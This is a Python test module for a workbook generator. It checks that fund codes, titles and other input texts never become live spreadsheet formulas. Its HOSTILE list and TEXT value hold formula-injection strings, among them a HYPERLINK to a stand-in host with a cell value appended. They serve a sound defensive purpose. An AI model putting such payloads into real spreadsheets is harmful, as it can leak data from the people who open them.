"""Names of funds and other texts of inputs never reach a formula: the same formulas stand in a workbook, whatever they say.

A fund code once put a live HYPERLINK into the review workbook.
"""

import dataclasses
import datetime
import re
import zipfile

import pytest
from openpyxl.formula import Tokenizer
from programs import faults, needs_validator

from xl_flexextra import workbook
from xl_flexextra.calculation.calendar_days import month_end
from xl_flexextra.hosts.calc.recalculation import recalculate
from xl_flexextra.inputs.funds import Funds
from xl_flexextra.inputs.input_tables import Published
from xl_flexextra.inputs.shares import Shares
from xl_flexextra.inputs.unit_values import UnitValues
from xl_flexextra.terms import load
from xl_flexextra.update import report, update_inputs
from xl_flexextra.workbook.review import build
from xl_flexextra.workbook.template import build_template

HOSTILE = (
    'A]),HYPERLINK("http://x.invalid/"&A1,"a")+COUNT(UnitValues[EQ', "=1+1", "@SUM(1)", "A]'#", 'O"Neil', "'quoted'",
    "+1", "-1 %", "a,b:c", "{x}", "$A$1", "R1C1", "TRUE", "A*", "A?", "A~B", ">5", "<b>&amp;", "https://x.invalid",
    "[x]Sheet!A1", "#REF", "UnitValues[#All]", "0101", "101",
)  # fmt: skip
PLAIN = tuple(f"FUND_{place}" for place in range(len(HOSTILE)))
TEXT = 'x"&HYPERLINK("http://x.invalid")&"'


def update(codes, text):
    """An update of these fund codes, with a text wherever an input has one."""
    as_of = datetime.date(2008, 7, 31)
    days = [month_end(2005 + month // 12, month % 12 + 1) for month in range(7, 43)]
    values = [[10 + row * (place + 3) % 17 / 10 + row / 50 for place in range(len(codes))] for row in range(len(days))]
    share = 1 / len(codes)
    terms = tuple(
        load(name).replace(contract__title=text, contract__code=f"{text}{name}")
        for name in ("flex_extra_flexible", "flex_extra_single")
    )
    figures = [("table_1", "", text), ("table_2", terms[0]["contract.code"], "")]
    return update_inputs.Inputs(
        unit_values=UnitValues(days, codes, values),
        funds=Funds.from_rows(
            [
                ["fund", "name", "asset class", "aliases", "notes"],
                *([c, text + c, text, f"{text}{c} b", text] for c in codes),
            ]
        ),
        contracts=terms,
        as_of=as_of,
        shares=Shares([(None, code, share) for code in codes]),
        share_rows=[["fund", "share"], *([code, share] for code in codes)],
        rate_rows=[["date", f"{text}\x1b\n", text], [datetime.date(2008, 1, 1), text, 0.03]],
        published=tuple(Published(t, c, as_of, code, "1Y", 0.1234, known) for t, c, known in figures for code in codes),
        holidays=((datetime.date(2008, 7, 4), text),),
        sources=[["file", "what", "from", "sha", "note"], [text] * 5],
        notes=(text, text),
        disclosures=(text,),
        title=text,
        label=text,
    )


def formulas(path):
    """Every formula, by its part and place: of cells, formats, validations, names, charts, links and tables."""
    names = rb"f|formula[12]?|calculatedColumnFormula|definedName"
    marks = re.compile(rb"<(?:\w+:)?(" + names + rb')(?: [^<>]*)?>([^<]*)<|location="([^"]*)"')
    with zipfile.ZipFile(path) as book:
        return {
            name: [(kind.decode(), (text or link).decode()) for kind, text, link in marks.findall(book.read(name))]
            for name in book.namelist()
            if name.endswith(".xml")
        }


def built(folder, codes, text):
    computed = report.compute(update(codes, text))
    workbook.build(computed, folder / "update.xlsx")
    build.build(computed, folder / "review.xlsx")
    build_template(folder / "template.xlsx", codes)
    return {name: formulas(folder / f"{name}.xlsx") for name in ("update", "review", "template")}


@pytest.fixture(scope="module")
def both(tmp_path_factory):
    folders = [tmp_path_factory.mktemp(name) for name in ("hostile", "plain")]
    return folders[0], built(folders[0], HOSTILE, TEXT), built(folders[1], PLAIN, "text")


def test_formulas_of_workbooks_are_the_same_whatever_the_funds_are_called(both):
    """But for the lookup in the chart of a name that would be a pattern, which compares instead; and for the note of other
    kinds of rates, which stands where every program counts the words of the kinds alike."""
    _, hostile, plain = both
    plain["update"] = {
        part: [one for one in found if not one[1].startswith("IF(ROWS(InterestRates[kind])=COUNTIF(")]
        for part, found in plain["update"].items()
    }
    for name, parts in hostile.items():
        assert sum(map(len, parts.values())) > 20, name
        for part, found in parts.items():
            compared, wanted = (
                [
                    re.sub(
                        r"^'?[\w ]+'?!\$[A-Z]+:\$[A-Z]+,", "", text
                    )  # printed on pages side by side, where names are long
                    for text in (
                        re.sub(r"MATCH\(TRUE\(\),INDEX\((\S+?)=(\S+?),\),", r"MATCH(\2,\1,", text) for _, text in some
                    )
                ]
                for some in (found, plain[name][part])
            )
            assert compared == wanted, (name, part)


def test_every_formula_of_hostile_workbooks_parses_into_operands_and_functions_of_ours(both):
    _, hostile, _ = both
    seen = {"HYPERLINK", "http", 'O"Neil', "Sheet!A1", "R1C1", "@SUM"}
    for parts in hostile.values():
        for found in parts.values():
            for kind, text in found:
                for token in Tokenizer("=" + text.replace("&amp;", "&").replace("&quot;", '"').replace("&lt;", "<")).items:
                    assert not any(word in token.value for word in seen), (kind, text)


def test_hostile_workbooks_recalculate_to_what_they_hold(both):
    """Native routes find a fund called A* or A~B: lookups take no name for a pattern."""
    folder, *_ = both
    again = recalculate(folder / "update.xlsx")
    assert len(again.cells) > 500
    assert [(c.sheet, c.address, c.cached, c.recalculated) for c in again.differences] == []
    again = recalculate(folder / "review.xlsx")
    assert len(again.cells) > 1000
    differ = [c for c in again.differences if c.sheet not in {"Probe"}]
    assert [(c.sheet, c.address, c.cached, c.recalculated) for c in differ] == []


@pytest.mark.parametrize("name", ["A]),HYPERLINK(1)", "=1+1", "my 'own' [x]", "R1C1", "it's", 'a"b', "TRUE", "ÄÖ ü"])
def test_names_of_contracts_become_words(tmp_path, name):
    given = update(PLAIN[:2], "text")
    given = dataclasses.replace(given, contracts=(given.contracts[0].replace(contract__name=name),), published=())
    workbook.build(report.compute(given), tmp_path / "update.xlsx")
    for found in formulas(tmp_path / "update.xlsx").values():
        for kind, text in found:
            for token in Tokenizer("=" + text.replace("&quot;", '"')).items:
                assert "HYPERLINK" not in token.value, (kind, text)
                if "[" in token.value and "UnitValues" not in token.value:
                    assert re.fullmatch(r"\w+\[[\w#]+\]", token.value), (kind, text)
    with zipfile.ZipFile(tmp_path / "update.xlsx") as book:
        tables = [book.read(part).decode() for part in book.namelist() if part.startswith("xl/tables/")]
    names = [re.search('displayName="([^"]*)"', table).group(1) for table in tables]
    assert all(re.fullmatch(r"[A-Za-zÀ-ÿ]\w*", one) for one in names), names


@needs_validator
@pytest.mark.parametrize("name", ["update", "review", "template"])
def test_hostile_workbooks_are_valid(both, name):
    assert faults(both[0] / f"{name}.xlsx", "Microsoft365") == []
